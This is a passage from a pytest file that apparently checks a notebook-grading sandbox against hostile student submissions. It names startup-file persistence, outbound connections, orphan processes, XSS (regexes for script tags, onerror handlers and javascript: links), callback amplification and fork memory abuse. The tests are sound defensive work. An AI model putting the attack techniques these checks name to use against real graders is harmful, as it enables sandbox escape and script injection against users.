    assert [p for p in os.listdir(site) if MARKER in p] == []
    for startup in [*site.glob("*.pth"), *site.glob("*customize.py")]:
        assert needle not in startup.read_bytes(), startup
    assert [p for p in os.listdir("/tmp") if MARKER in p] == []


def test_no_connection_reached_the_host(graded, watch):
    assert watch.listener.events == []


def test_no_process_outlives_its_kernel_and_grading_did_not_hang(graded, watch):
    assert watch.orphans_at_end == []
    time.sleep(1)
    assert tagged_processes() == []
    assert watch.seconds < 600


def test_markdown_with_script_stays_inert_in_the_feedback(graded):
    course, _, _, _ = graded
    page = course.feedback(LESSON, "nb-markdown-script")
    assert "pigs-xss" in html.unescape(page)  # the cell is shown, as text: no tag of it is live
    assert not re.search(r"<script>\s*document\.title", page)
    assert not re.search(r"<[a-zA-Z][^<>]*\sonerror\s*=", page)
    assert not re.search(r"<a\s[^<>]*href\s*=\s*[\"']?\s*javascript:", page, re.IGNORECASE)


def test_a_callback_cannot_make_the_grader_build_a_huge_value(graded):
    """The judge refuses callback arguments or results over MAX_CALLBACK_CHARS."""
    course, _, _, _ = graded
    said = kernel_output(course, "callback-amplified")
    assert "AMPLIFIED" in said
    assert "AMPLIFIED 50000000" not in said


@pytest.mark.skipif(bool(FORK_MEMORY_HOLE), reason=f"per-process cap: {FORK_MEMORY_HOLE}")
def test_the_memory_cap_holds_for_the_whole_sandbox(graded):
    course, _, _, _ = graded
    said = kernel_output(course, "proc-fork-memory")
    assert "FORK-MEMORY held" in said
    assert "FORK-MEMORY held 3" not in said
